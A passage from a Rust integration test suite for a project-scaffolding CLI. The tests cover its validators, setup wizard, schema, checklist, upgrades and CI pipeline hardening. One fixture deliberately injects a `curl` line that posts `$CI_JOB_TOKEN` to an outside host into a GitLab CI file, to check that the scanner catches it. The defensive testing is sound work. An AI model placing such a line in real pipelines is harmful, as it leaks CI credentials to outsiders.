        |t| first(t, "when: on_failure", "when: sometimes"),
        "check-jsonschema",
        "gitlab",
    ),
    (
        "express-typeorm",
        ".gitlab-ci.yml",
        |t| first(t, "  before_script:\n", "  before_script:\n    - echo $(cat /etc/hostname)\n"),
        "shellcheck",
        "gitlab",
    ),
    (
        "express-typeorm",
        ".gitlab-ci.yml",
        |t| first(t, "  script:\n", "  script:\n    - curl -d \"$CI_JOB_TOKEN\" https://example.com/collect\n"),
        "checkov",
        ".gitlab-ci.yml",
    ),
    // Caddy and Terraform (go-service)
    ("go-service", "caddy/Caddyfile", |t| first(t, "protocols h1 h2", "protocolz h1 h2"), "caddy", "Caddyfile"),
    (
        "go-service",
        "caddy/Caddyfile",
        |t| first(t, "protocols tls1.3", "protocols tls1.2 tls1.3"),
        "sslyze",
        "Caddyfile",
    ),
    (
        "go-service",
        "infra/terraform/modules/database/main.tf",
        |t| first(t, "storage_encrypted     = true", "storage_encrypted = true"),
        "terraform",
        "formatting",
    ),
    (
        "go-service",
        "infra/terraform/modules/database/main.tf",
        |t| first(t, "storage_encrypted     = true", "storage_encrypted     = \"lots\""),
        "terraform",
        "validate",
    ),
    (
        "go-service",
        "infra/terraform/modules/database/main.tf",
        |t| first(t, "storage_encrypted     = true", "storage_encrypted     = false"),
        "checkov",
        "checkov",
    ),
];

#[test]
fn each_validator_catches_a_broken_artifact() {
    let mut missed = Vec::new();
    for (preset, file, breaks, tool, artifact) in BREAKAGES {
        let p = Project::new();
        let mut words = preset.split(' ');
        let mut args = vec!["init", "--preset", words.next().unwrap(), "--yes"];
        args.extend(words.flat_map(|set| ["--set", set]));
        p.run(&args).ok();
        p.edit(file, breaks);
        // Only the one check meant (by its id), not every check of its tool.
        let list = p.run(&["verify", "--list"]).ok().stdout;
        let id = list
            .lines()
            .skip(1)
            .find_map(|l| {
                let mut words = l.split_whitespace();
                let (id, t) = (words.next()?, words.next()?);
                (t == *tool && words.collect::<Vec<_>>().join(" ").contains(artifact)).then_some(id)
            })
            .unwrap_or_else(|| panic!("no `{tool}` check on `{artifact}` in {preset}: {list}"));
        let run = p.run(&["verify", "--json", "--only", id]);
        let rows = json_list(&run.stdout, "checks");
        let [row] = rows.as_slice() else { panic!("`--only {id}` ran {} checks: {rows:#?}", rows.len()) };
        if row["outcome"] == "skipped" && !support::in_ci() {
            eprintln!("skipped: {tool} is not installed ({})", row["message"]);
            continue;
        }
        if row["outcome"] != "fail" || row["message"].as_str().unwrap_or("").is_empty() || run.code != 1 {
            missed.push(format!("{preset}: `{tool}` ({artifact}) did not catch a broken `{file}`: {row}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn a_hung_validator_is_killed_and_reported() {
    let templates = tempfile::tempdir().unwrap();
    let comp = templates.path().join("slow");
    std::fs::create_dir_all(&comp).unwrap();
    std::fs::write(
        comp.join("component.yaml"),
        "id: slow\nsummary: hangs\nwhen: \"true\"\nverify:\n  - {artifact: x, tool: sleep}\n",
    )
    .unwrap();
    std::fs::create_dir_all(comp.join("checks")).unwrap();
    std::fs::write(comp.join("checks/sleep.sh"), "sleep 600 & sleep 600\n").unwrap();
    std::fs::write(comp.join("x.txt"), "x\n").unwrap();
    let p = Project::new();
    let scaffold = with_templates(&p, templates.path());
    scaffold(&MINIMAL_INIT).ok();
    let start = std::time::Instant::now();
    let run = scaffold(&["verify", "--timeout", "1"]).code(1).stdout_has("killed after 1s");
    assert!(start.elapsed().as_secs() < 30, "{}", run.stdout);
}

/// An activated virtualenv puts a `python3` without PyYAML first on `PATH`: the checks that
/// import it are skipped as a missing dependency with its install hint (a failure with
/// `--strict`), never a traceback; the checks that need only the standard library still run.
#[test]
fn a_python3_without_pyyaml_first_on_path_is_a_missing_dependency() {
    if !support::require_tool("python3") {
        return;
    }
    let venv = tempfile::tempdir().unwrap();
    let made = std::process::Command::new("python3").args(["-m", "venv", "--without-pip"]).arg(venv.path()).status();
    assert!(made.unwrap().success(), "python3 -m venv");
    let lacks = std::process::Command::new(venv.path().join("bin/python3")).args(["-c", "import yaml"]).output();
    assert!(!lacks.unwrap().status.success(), "the bare virtualenv imports yaml");
    let path = format!("{}:{}", venv.path().join("bin").display(), std::env::var("PATH").unwrap());
    let p = Project::new();
    p.init("nextjs-prisma");
    let args = ["verify", "--json", "--only", "runbooks/commands", "--only", "runbooks/links"];
    let run = p.run_env(&args, &[("PATH", &path)]).ok();
    assert!(!run.stdout.contains("Traceback") && !run.stdout.contains("ModuleNotFoundError"), "{}", run.stdout);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let row = |id: &str| json["checks"].as_array().unwrap().iter().find(|r| r["id"] == id).unwrap().clone();
    let commands = row("runbooks/commands");
    assert_eq!(commands["outcome"], "skipped", "{commands}");
    let message = commands["message"].as_str().unwrap();
    assert!(message.starts_with("missing dependency `python3:yaml`") && message.contains("PyYAML"), "{message}");
    assert_eq!(row("runbooks/links")["outcome"], "pass", "the standard library is enough for the links");
    p.run_env(&["verify", "--strict", "--only", "runbooks/commands"], &[("PATH", &path)])
        .code(1)
        .stdout_has("missing dependency `python3:yaml`")
        .stderr_has("miss their tool or a dependency");
}

const FIXTURES: &[&str] = &["empty", "express-typeorm-bullmq", "go-service", "nextjs-prisma-ws"];

#[test]
fn detect_json_matches_its_snapshot_per_fixture() {
    for fixture in FIXTURES {
        let json =
            serde_json::to_string_pretty(&detect_json(&repo_root().join("tests/fixtures").join(fixture))).unwrap();
        assert_snapshot(&format!("detect/{fixture}.json"), &format!("{json}\n"));
    }
}

#[test]
fn without_a_terminal_missing_answers_are_listed_together() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    let before = p.tree();
    p.run(&["init", "--no-input"])
        .code(2)
        .one_error_line()
        .stderr_has("missing answers: `domain`, `email`")
        .stderr_has("--set domain=app.example.com");
    assert_eq!(before, p.tree());
}

fn copy_dir(from: &Path, to: &Path) {
    for (rel, (bytes, _)) in tree(from) {
        let dest = to.join(rel);
        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
        std::fs::write(dest, bytes).unwrap();
    }
}

fn wizard_session(p: &Project) -> rexpect::session::PtySession {
    in_pty(p, &["init"], "cat")
}

/// `scaffold ARGS --dir <p>` in a pseudo-terminal, without colour, with `pager` as `$PAGER`.
fn in_pty(p: &Project, args: &[&str], pager: &str) -> rexpect::session::PtySession {
    let mut cmd = std::process::Command::new(support::bin());
    cmd.args(args).arg("--dir").arg(p.dir()).env_remove("SCAFFOLD_TEMPLATES").env("NO_COLOR", "1").env("PAGER", pager);
    rexpect::session::spawn_command(cmd, Some(30_000)).expect("spawn in a pty")
}

#[test]
fn wizard_proposes_detected_answers_reasks_invalid_ones_and_writes() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    let mut s = wizard_session(&p);
    s.exp_string("detected prisma").unwrap();
    s.exp_string("Project name").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Public domain").unwrap();
    s.send_line("shop.example.org;").unwrap();
    s.exp_string("`domain`: `shop.example.org;` is not a valid domain name").unwrap();
    // Clear what the invalid answer left in the field, then type a good one.
    s.send(&"\x7f".repeat(20)).unwrap();
    s.send_line("shop.example.org").unwrap();
    // No example address is proposed: it must be typed.
    s.exp_string("Operations email").unwrap();
    s.send_line("ops@shop.example.org").unwrap();
    for question in
        ["Reverse proxy", "TLS profile", "PostgreSQL", "Redis", "Prometheus", "CI/CD", "Cloud", "Optional components"]
    {
        s.exp_string(question).unwrap();
        s.send_line("").unwrap();
    }
    let summary = s.exp_string("Render with these answers?").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Write these changes?").unwrap();
    s.send_line("").unwrap();
    s.exp_string("wrote").unwrap();
    s.exp_eof().unwrap();
    // The printed one-line equivalent renders the same files.
    let line =
        summary.lines().find(|l| l.trim_start().starts_with("scaffold init --preset")).expect("equivalent command");
    let words = shell_words(line);
    let args: Vec<&str> = words.iter().skip(1).map(String::as_str).collect();
    let dir_at = args.iter().position(|a| *a == "--dir").unwrap();
    assert!(args.contains(&"--preset") && args.contains(&"nextjs-prisma"), "{line}");
    assert!(args.contains(&"domain=shop.example.org") && args.contains(&"project=storefront"), "{line}");
    let keys: Vec<&str> = args.iter().filter_map(|a| a.split_once('=').map(|(k, _)| k)).collect();
    assert!(keys.iter().all(|k| keys.iter().filter(|x| *x == k).count() == 1), "a key repeated: {line}");
    let twin = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &twin.dir());
    let mut again: Vec<&str> = args[..dir_at].to_vec();
    again.push("--yes");
    twin.run(&again).ok();
    let strip = |t: BTreeMap<String, (Vec<u8>, u32)>| -> BTreeMap<String, (Vec<u8>, u32)> {
        // Secret values (and so their hashes in the state) differ between any two runs.
        t.into_iter()
            .filter(|(k, _)| (!k.starts_with("secrets/") || k.ends_with(".gitignore")) && k != ".scaffold/state.yaml")
            .collect()
    };
    let (a, b) = (strip(p.tree()), strip(twin.tree()));
    let differing: Vec<&String> = a.keys().chain(b.keys()).filter(|k| a.get(*k) != b.get(*k)).collect();
    assert!(differing.is_empty(), "the wizard and its one-line equivalent differ in {differing:?}");
}

#[test]
fn ctrl_c_in_the_wizard_writes_nothing_and_exits_130() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/nextjs-prisma-ws"), &p.dir());
    let before = p.tree();
    let mut s = wizard_session(&p);
    s.exp_string("Project name").unwrap();
    s.send_line("").unwrap();
    s.exp_string("Public domain").unwrap();
    s.send_control('c').unwrap();
    let rest = s.exp_string("aborted").unwrap();
    let status = s.process().wait().unwrap();
    assert!(matches!(status, rexpect::process::WaitStatus::Exited(_, 130)), "{status:?} {rest}");
    assert_eq!(before, p.tree());
}

#[test]
fn schema_describes_scaffold_yaml_and_accepts_every_preset() {
    let p = Project::new();
    let out = p.run(&["schema"]).ok().stdout;
    let schema: serde_json::Value = serde_json::from_str(&out).expect("schema is JSON");
    for key in ["project", "domain", "services", "tls", "components"] {
        assert!(schema["properties"][key].is_object(), "no `{key}` in the schema");
    }
    assert_eq!(schema["additionalProperties"], false, "unknown keys are refused, as by scaffold itself");
    let tool = "check-jsonschema";
    if !support::require_tool(tool) {
        return;
    }
    let file = p.dir().with_file_name("schema.json");
    std::fs::write(&file, &out).unwrap();
    for preset in PRESETS {
        let out = std::process::Command::new(tool)
            .arg("--schemafile")
            .arg(&file)
            .arg(repo_root().join("presets").join(format!("{preset}.yaml")))
            .output()
            .unwrap();
        assert!(out.status.success(), "{preset} does not validate against `scaffold schema`: {out:?}");
    }
    std::fs::write(p.dir().with_file_name("bad.yaml"), "project: shop\ndomian: x.example.com\n").unwrap();
    let bad = std::process::Command::new(tool)
        .arg("--schemafile")
        .arg(&file)
        .arg(p.dir().with_file_name("bad.yaml"))
        .output();
    assert!(!bad.unwrap().status.success(), "the schema must refuse an unknown key");
}

#[test]
fn checklist_per_preset_matches_its_snapshot() {
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let out = p.run(&["checklist"]).ok().stdout;
        assert_snapshot(&format!("checklist/{preset}.txt"), &out);
    }
}

#[test]
fn enabling_a_component_flips_its_checklist_items_to_covered() {
    let status = |p: &Project, id: &str| -> String {
        let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
        rows.iter().find(|r| r["id"] == id).map(|r| r["status"].as_str().unwrap().to_owned()).unwrap()
    };
    let p = Project::new();
    p.run(&["init", "--preset", "express-typeorm", "--set", "monitoring.enabled=false", "--yes"]).ok();
    assert_eq!(status(&p, "metrics-and-alerts"), "manual");
    p.run(&["update", "--set", "monitoring.enabled=true", "--yes"]).ok();
    assert_eq!(status(&p, "metrics-and-alerts"), "covered");
    assert_eq!(status(&p, "error-tracking"), "manual");
    p.run(&["add", "sentry", "--yes"]).ok();
    assert_eq!(status(&p, "error-tracking"), "covered");
    assert_eq!(status(&p, "offsite-backups"), "partly");
    p.run(&["add", "offsite", "--set", "settings.offsite.bucket=tasks-backups", "--yes"]).ok();
    // Covered once the team's bucket key is in place (scaffold never invents it).
    assert_eq!(status(&p, "offsite-backups"), "partly");
    p.write("secrets/offsite_access_key_id", "AKIAEXAMPLE\n");
    p.write("secrets/offsite_secret_access_key", "example\n");
    assert_eq!(status(&p, "offsite-backups"), "covered");
    p.run(&["checklist", "--require", "low"]).code(1).stderr_has("neither covered").stderr_has("`privacy-compliance`");
    p.run(&["checklist", "--markdown"]).ok();
    let doc = p.read("PRODUCTION_READINESS.md");
    assert!(doc.contains("- [x] **Metrics (Prometheus) and alerts"), "{doc}");
}

/// A project written by an older template set (0.0.9: a skeleton compose file), with a user edit
/// in its compose file and a changed answer, updated by this version.
#[test]
fn upgrade_from_an_older_template_set_keeps_user_edits() {
    let p = Project::new();
    copy_dir(&repo_root().join("tests/fixtures/upgrade-nextjs-prisma"), &p.dir());
    p.run(&["check"]).code(1).stdout_has("stale").stdout_has("missing");
    p.run(&["update", "--yes"]).ok().stdout_has("merged").stdout_lacks("conflict ");
    let compose = p.read("docker-compose.prod.yml");
    assert!(
        compose.ends_with("# ops: the platform team pins this file; ask #platform before changing it\n"),
        "{compose}"
    );
    assert!(!compose.contains("placeholder"), "the old template's lines are gone:\n{compose}");
    assert_snapshot("upgrade/nextjs-prisma/docker-compose.prod.yml", &compose);
    assert!(p.read(".scaffold/state.yaml").contains(&format!("scaffold_version: {}", env!("CARGO_PKG_VERSION"))));
    // Everything else is exactly what a fresh project with the same answers gets.
    let fresh = Project::new();
    fresh.run(&["init", "--preset", "nextjs-prisma", "--set", "email=platform@example.com", "--yes"]).ok();
    let view = |t: BTreeMap<String, (Vec<u8>, u32)>| -> BTreeMap<String, (Vec<u8>, u32)> {
        t.into_iter()
            .filter(|(k, _)| {
                !k.starts_with("secrets/") && !k.starts_with(".scaffold/") && k != "docker-compose.prod.yml"
            })
            .collect()
    };
    assert_eq!(view(p.tree()), view(fresh.tree()));
    p.run(&["check"]).ok().stdout_has("user-edited  docker-compose.prod.yml");
}

/// Starts Debian's Prometheus on 127.0.0.1 with the generated config and the compose service's
/// own flags (paths and address made local), then reads its flags and rules back.
#[test]
fn prometheus_runs_the_generated_config_with_the_answered_retention() {
    if !support::require_tool("prometheus") {
        return;
    }
    let p = Project::new();
    p.run(&[
        "init",
        "--preset",
        "express-typeorm",
        "--set",
        "monitoring.retention_time=21d",
        "--set",
        "monitoring.retention_size=7GB",
        "--yes",
    ])
    .ok();
    let port = support::free_port();
    let data = p.dir().with_file_name("tsdb");
    let config = p.path("monitoring/prometheus/prometheus.yml");
    let flags: Vec<String> = support::compose_command(&p, "prometheus")
        .into_iter()
        .map(|f| match f.split_once('=') {
            Some(("--config.file", _)) => format!("--config.file={}", config.display()),
            Some(("--storage.tsdb.path", _)) => format!("--storage.tsdb.path={}", data.display()),
            Some(("--web.listen-address", _)) => format!("--web.listen-address=127.0.0.1:{port}"),
            _ => f,
        })
        .collect();
    assert!(
        flags.iter().all(|f| !f.starts_with("--web.enable-admin-api") && !f.starts_with("--web.enable-lifecycle")),
        "{flags:?}"
    );
    let mut cmd = std::process::Command::new("prometheus");
    cmd.args(&flags);
    let mut server = support::Daemon::spawn(cmd, "prometheus");
    server.wait_for_port(port);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !support::http_get(port, "/-/ready").contains("Ready") {
        assert!(std::time::Instant::now() < deadline, "prometheus never became ready");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let status: serde_json::Value = serde_json::from_str(&support::http_get(port, "/api/v1/status/flags")).unwrap();
    // Prometheus prints durations in weeks and sizes in IEC units: compare what they mean.
    use scaffold::spec::types::{Duration, Size};
    let time = status["data"]["storage.tsdb.retention.time"].as_str().unwrap_or("");
    let size = status["data"]["storage.tsdb.retention.size"].as_str().unwrap_or("").replace("iB", "B");
    assert_eq!(Duration::parse(time).map(|d| d.seconds()), Ok(21 * 86_400), "{status}");
    assert_eq!(Size::parse(&size).map(|s| s.bytes()), Ok(7 << 30), "{status}");
    let rules: serde_json::Value = serde_json::from_str(&support::http_get(port, "/api/v1/rules")).unwrap();
    let groups = rules["data"]["groups"].as_array().expect("rule groups");
    let loaded: usize = groups.iter().map(|g| g["rules"].as_array().map_or(0, Vec::len)).sum();
    let on_disk: usize = std::fs::read_dir(p.path("monitoring/prometheus/rules"))
        .unwrap()
        .map(|e| p.read(&format!("monitoring/prometheus/rules/{}", e.unwrap().file_name().to_string_lossy())))
        .map(|t| t.matches("- alert:").count() + t.matches("- record:").count())
        .sum();
    assert!(loaded > 0 && loaded == on_disk, "loaded {loaded} rules, the files hold {on_disk}");
    for g in groups {
        for r in g["rules"].as_array().unwrap() {
            assert_ne!(r["health"], "err", "rule {} in {}: {}", r["name"], g["name"], r["lastError"]);
        }
    }
}

/// Ids of the components a user adds with `scaffold add` (no `when:` in their manifest).
fn optional_components() -> Vec<String> {
    let mut ids = Vec::new();
    for entry in std::fs::read_dir(repo_root().join("templates")).unwrap() {
        let manifest = entry.unwrap().path().join("component.yaml");
        let Ok(text) = std::fs::read_to_string(&manifest) else { continue };
        let doc: serde_json::Value = yaml_serde::from_str(&text).unwrap();
        if doc.get("when").is_none() {
            ids.push(doc["id"].as_str().unwrap().to_owned());
        }
    }
    ids.sort();
    ids
}

/// `--set` arguments for the answers of component `id` that have no default (the bucket of
/// `offsite`, say): a valid value of the answer's type.
fn manifest(id: &str) -> serde_json::Value {
    let text = std::fs::read_to_string(repo_root().join("templates").join(id).join("component.yaml")).unwrap();
    yaml_serde::from_str(&text).unwrap()
}

/// The optional components that `add id` brings along (its `requires`, and theirs).
fn optional_requirements(id: &str) -> Vec<String> {
    let optional = optional_components();
    let mut out = Vec::new();
    for r in manifest(id)["requires"].as_array().into_iter().flatten().filter_map(|r| r.as_str()) {
        if optional.iter().any(|o| o == r) {
            out.extend(optional_requirements(r));
            out.push(r.to_owned());
        }
    }
    out
}

/// The `--set` flags `add id` needs: its required answers and those of what it brings along.
fn required_settings(id: &str) -> Vec<String> {
    let doc = manifest(id);
    let mut sets: Vec<String> = optional_requirements(id).iter().flat_map(|r| required_settings(r)).collect();
    for answer in doc["answers"].as_array().into_iter().flatten().filter(|a| a.get("default").is_none()) {
        let value = match answer["type"].as_str().unwrap() {
            "name" => "scaffold-test",
            "domain" => "example.com",
            other => panic!("`{id}`: give tests a sample value for required answers of type `{other}`"),
        };
        sets.extend(["--set".to_owned(), format!("settings.{id}.{}={value}", answer["key"].as_str().unwrap())]);
    }
    sets
}

#[test]
fn every_optional_component_adds_and_removes_cleanly_on_every_preset() {
    let components = optional_components();
    assert!(!components.is_empty(), "no optional components under templates/");
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let view = |t: BTreeMap<String, (Vec<u8>, u32)>| -> BTreeMap<String, (Vec<u8>, u32)> {
            t.into_iter().filter(|(k, _)| !k.starts_with(".scaffold/")).collect()
        };
        let pristine = view(p.tree());
        for id in &components {
            let required = required_settings(id);
            let args: Vec<&str> = ["add", id, "--yes"].into_iter().chain(required.iter().map(String::as_str)).collect();
            p.run(&args).ok();
            let added = view(p.tree());
            assert!(p.read("scaffold.yaml").contains(&format!("- {id}")), "{preset}: `{id}` not recorded");
            p.run(&["add", id, "--yes"]).ok().stdout_has("nothing to change");
            assert_eq!(added, view(p.tree()), "{preset}: adding `{id}` twice changed something");
            p.run(&["remove", id, "--yes"]).ok();
            for r in optional_requirements(id).iter().rev() {
                p.run(&["remove", r, "--yes"]).ok();
            }
            // Secrets the component generated go too, as nobody changed them.
            assert_eq!(pristine, view(p.tree()), "{preset}: `add {id}` then `remove {id}` is not the identity");
        }
    }
}

#[test]
fn adding_a_component_the_answers_choose_or_an_unknown_one_is_refused() {
    let p = Project::new();
    p.init("nextjs-prisma");
    let before = p.tree();
    p.run(&["add", "nginx", "--yes"]).code(2).one_error_line().stderr_has("follows from the answers");
    p.run(&["add", "sentri", "--yes"]).code(2).one_error_line().stderr_has("unknown component `sentri`");
    p.run(&["remove", "monitoring", "--yes"])
        .code(2)
        .one_error_line()
        .stderr_has("not among this project's `components`");
    assert_eq!(before, p.tree());
}

#[test]
fn a_secret_the_user_filled_in_outlives_its_component() {
    let templates = tempfile::tempdir().unwrap();
    let comp = templates.path().join("vault");
    std::fs::create_dir_all(&comp).unwrap();
    std::fs::write(comp.join("component.yaml"), "id: vault\nsummary: demo\nsecrets:\n  - name: vault_token\n").unwrap();
    std::fs::write(comp.join("vault.txt"), "uses /run/secrets/vault_token\n").unwrap();
    let p = Project::new();
    let scaffold = with_templates(&p, templates.path());
    scaffold(&MINIMAL_INIT).ok();
    scaffold(&["add", "vault", "--yes"]).ok();
    assert!(p.exists("secrets/vault_token"));
    assert!(
        !p.read(".scaffold/state.yaml").contains(&p.read("secrets/vault_token")),
        "a secret value reached .scaffold/"
    );
    // Untouched: removed with the component.
    scaffold(&["remove", "vault", "--yes"]).ok().stdout_has("delete");
    assert!(!p.exists("secrets/vault_token"));
    // Filled in by the user: kept, and said so.
    scaffold(&["add", "vault", "--yes"]).ok();
    p.write("secrets/vault_token", "s.the-real-token\n");
    scaffold(&["remove", "vault", "--yes"]).ok().stdout_lacks("s.the-real-token");
    assert_eq!(p.read("secrets/vault_token"), "s.the-real-token\n");
}

/// The smallest valid answers, for tests that bring their own templates.
const MINIMAL_INIT: [&str; 20] = [
    "init",
    "--set",
    "project=x",
    "--set",
    "domain=x.example.com",
    "--set",
    "email=a@example.com",
    "--set",
    "stack.runtime=go",
    "--set",
    "stack.framework=go",
    "--set",
    "stack.orm=none",
    "--set",
    "postgres.enabled=false",
    "--set",
    "services.0.name=api",
    "--set",
    "services.0.port=80",
    "--yes",
];

/// Runs `scaffold ARGS --dir <project>` with the templates in `templates` instead of the embedded ones.
fn with_templates<'a>(p: &'a Project, templates: &'a Path) -> impl Fn(&[&str]) -> support::Run + 'a {
    move |args: &[&str]| {
        let mut cmd = std::process::Command::new(support::bin());
        cmd.args(args).arg("--dir").arg(p.dir()).env("SCAFFOLD_TEMPLATES", templates);
        support::run_command_keeping_env(cmd, &args.join(" "))
    }
}

#[test]
fn component_answers_are_typed_validated_and_rendered() {
    let templates = tempfile::tempdir().unwrap();
    let comp = templates.path().join("demo");
    std::fs::create_dir_all(&comp).unwrap();
    std::fs::write(
        comp.join("component.yaml"),
        "id: demo\nsummary: demo\nanswers:\n  - {key: org, type: name, help: the organization slug}\n  \
         - {key: port, type: port, help: where it listens, default: 9000}\n  \
         - {key: mode, type: choice, choices: [fast, safe], help: how, default: safe}\n",
    )
    .unwrap();
    std::fs::write(
        comp.join("demo.conf.tera"),
        "org={{ settings.demo.org }} port={{ settings.demo.port }} mode={{ settings.demo.mode }}\n",
    )
    .unwrap();
    let p = Project::new();
    let scaffold = with_templates(&p, templates.path());
    scaffold(&MINIMAL_INIT).ok();
    let before = p.tree();
    scaffold(&["add", "demo", "--yes"])
        .code(2)
        .one_error_line()
        .stderr_has("`settings.demo.org`: missing; the organization slug");
    scaffold(&["add", "demo", "--set", "settings.demo.org=Acme;", "--yes"])
        .code(2)
        .stderr_has("`settings.demo.org`: `Acme;` is not a valid name");
    scaffold(&["add", "demo", "--set", "settings.demo.org=acme", "--set", "settings.demo.mod=fast", "--yes"])
        .code(2)
        .stderr_has("`settings.demo.mod`: unknown key; did you mean `mode`?");
    scaffold(&["add", "demo", "--set", "settings.demo.org=acme", "--set", "settings.demo.mode=slow", "--yes"])
        .code(2)
        .stderr_has("`slow` is not allowed; expected one of `fast`, `safe`");
    assert_eq!(before, p.tree(), "refused answers wrote something");
    scaffold(&["add", "demo", "--set", "settings.demo.org=acme", "--yes"]).ok();
    assert_eq!(p.read("demo.conf"), "org=acme port=9000 mode=safe\n");
    scaffold(&["remove", "demo", "--yes"]).ok();
    assert_eq!(before, p.tree(), "remove did not undo add, settings included");
}

fn yaml_file(p: &Project, rel: &str) -> serde_json::Value {
    yaml_serde::from_str(&p.read(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

/// The HARDENING §12–14 properties, read from the parsed pipelines of every preset on both CIs.
#[test]
fn pipelines_are_pinned_least_privilege_and_migrate_in_order() {
    let orm_command = |preset: &str| match preset {
        "nextjs-prisma" => "prisma migrate deploy",
        "express-typeorm" => "migration:run",
        _ => "migrate",
    };
    for preset in PRESETS {
        for ci in ["github", "gitlab"] {
            let p = Project::new();
            p.run(&["init", "--preset", preset, "--set", &format!("ci={ci}"), "--yes"]).ok();
            let mut all_text = String::new();
            if ci == "github" {
                for wf in ["ci", "release", "deploy"] {
                    let rel = format!(".github/workflows/{wf}.yml");
                    let text = p.read(&rel);
                    all_text.push_str(&text);
                    let doc = yaml_file(&p, &rel);
                    assert_eq!(doc["permissions"], serde_json::json!({}), "{preset} {rel}: top-level permissions");
                    assert!(doc["on"].get("pull_request_target").is_none() && doc["on"].get("workflow_run").is_none());
                    for line in text.lines().filter(|l| l.trim_start().starts_with("uses:") && !l.contains("uses: $/"))
                    {
                        let target = line.split("uses:").nth(1).unwrap().trim();
                        let (_, rest) = target.split_once('@').unwrap_or_else(|| panic!("{rel}: unpinned `{line}`"));
                        let sha = rest.split_whitespace().next().unwrap();
                        assert!(sha.len() == 40 && sha.chars().all(|c| c.is_ascii_hexdigit()), "{rel}: `{line}`");
                        assert!(rest.contains("# v"), "{rel}: `{line}` has no version comment");
                    }
                    for (name, job) in doc["jobs"].as_object().unwrap() {
                        if job.get("uses").is_none() {
                            assert!(
                                job.get("timeout-minutes").is_some(),
                                "{preset} {rel}: job `{name}` has no timeout"
                            );
                        }
                    }
                    for step_line in text.lines().filter(|l| l.contains("persist-credentials")) {
                        assert!(step_line.contains("false"), "{rel}: {step_line}");
                    }
                }
                let deploy = yaml_file(&p, ".github/workflows/deploy.yml");
                let jobs = deploy["jobs"].as_object().unwrap();
                assert_eq!(jobs["deploy"]["needs"], "migrate", "{preset}: deploy must wait for the migration");
                assert!(jobs["migrate"]["environment"].is_string() || jobs["migrate"]["environment"].is_object());
                // One group for the whole run: no other run's job can come between this run's
                // migration and its deploy, and a running one is never cancelled.
                // The scanner runs on an archive before any login, with no socket; the image job
                // pushes with the push role and never holds the deploy role.
                let release = p.read(".github/workflows/release.yml");
                assert!(!release.contains("docker.sock"), "{preset}: a scanner with the Docker socket");
                let (scan, login) =
                    (release.find("--input /scan/image.tar").unwrap(), release.find("docker login").unwrap());
                assert!(scan < login, "{preset}: the scan runs after a registry login");
                let image = &yaml_file(&p, ".github/workflows/release.yml")["jobs"]["image"];
                assert!(image.get("environment").is_none(), "{preset}: the image job runs in the deploy environment");
                assert!(
                    !image.to_string().contains("vars.AWS_ROLE_ARN"),
                    "{preset}: the image job assumes the deploy role"
                );
                assert_eq!(deploy["concurrency"]["group"], "deploy-${{ inputs.environment }}", "{preset}");
                assert_eq!(deploy["concurrency"]["cancel-in-progress"], false, "{preset}");
                for job in ["migrate", "deploy"] {
                    assert!(jobs[job].get("concurrency").is_none(), "{preset}: {job} has a group of its own");
                }
            } else {
                let text = p.read(".gitlab-ci.yml");
                all_text.push_str(&text);
                let doc = yaml_file(&p, ".gitlab-ci.yml");
                assert!(doc["workflow"]["rules"].is_array(), "{preset}: workflow rules");
                let stages: Vec<&str> = doc["stages"].as_array().unwrap().iter().map(|s| s.as_str().unwrap()).collect();
                let at = |s: &str| stages.iter().position(|x| *x == s).unwrap_or_else(|| panic!("no stage {s}"));
                assert!(at("build") < at("deploy"), "{stages:?}");
                // The migration runs inside the approved deploy job (an `action: prepare` job is
                // not held by deployment approvals), which holds the resource group throughout.
                assert!(doc.get("migrate").is_none(), "{preset}: a migrate job outside the approval");
                let script = doc["deploy"]["script"].to_string();
                let at_first = |marks: [&str; 2]| marks.iter().find_map(|m| script.find(m));
                let migrates = at_first([r#"migrate \"$IMAGE_TAG"#, "migrate-taskdef.json"]);
                let starts = at_first([r#"deploy \"$IMAGE_TAG"#, "update-service"]);
                assert!(migrates.is_some() && migrates < starts, "{preset}: the deploy job migrates first");
                assert_eq!(doc["deploy"]["environment"]["name"], "production", "{preset}");
                assert!(doc["deploy"]["environment"].get("action").is_none(), "{preset}: deploy is a real deployment");
                assert_eq!(doc["deploy"]["resource_group"], "production", "{preset}");
                // Build, scan and push apart: the scanner has no Docker, no socket, no credential.
                assert!(!text.contains("docker.sock"), "{preset}: a scanner with the Docker socket");
                let scan = &doc["scan"];
                assert!(scan["image"]["name"].as_str().unwrap().starts_with("aquasec/trivy:"), "{scan}");
                assert!(
                    scan.get("services").is_none() && scan.get("extends") == Some(&serde_json::json!(".release-rules"))
                );
                assert!(!doc["build"]["script"].to_string().contains("login"), "{preset}: the build logs in");
                assert_eq!(doc["push"]["needs"], serde_json::json!(["build", "scan"]), "{preset}");
                // Long-lived push credentials only in the push job's protected environment.
                if text.contains("REGISTRY_PASSWORD") || text.contains("AWS_PUSH_ROLE_ARN") {
                    let env = &doc["push"]["environment"];
                    assert!(env["name"] == "registry" && env["action"] == "access", "{preset}: push environment {env}");
                }
                assert_eq!(doc["deploy"]["interruptible"], false, "{preset}");
                for (name, job) in doc.as_object().unwrap() {
                    if job.get("script").is_some() {
                        assert!(job.get("timeout").is_some(), "{preset}: job `{name}` has no timeout");
                    }
                }
            }
            for forbidden in ["migrate dev", "db push", "migrate reset", "synchronize: true", "AWS_SECRET_ACCESS_KEY"] {
                assert!(!all_text.contains(forbidden), "{preset} {ci}: `{forbidden}` in a pipeline");
            }
            assert!(all_text.contains(orm_command(preset)), "{preset} {ci}: no `{}`", orm_command(preset));
        }
    }
}

/// HARDENING §8 properties that text can show: typed, described variables; no literal secrets;
/// the S3 backend with native locking; pinned provider constraints.
#[test]
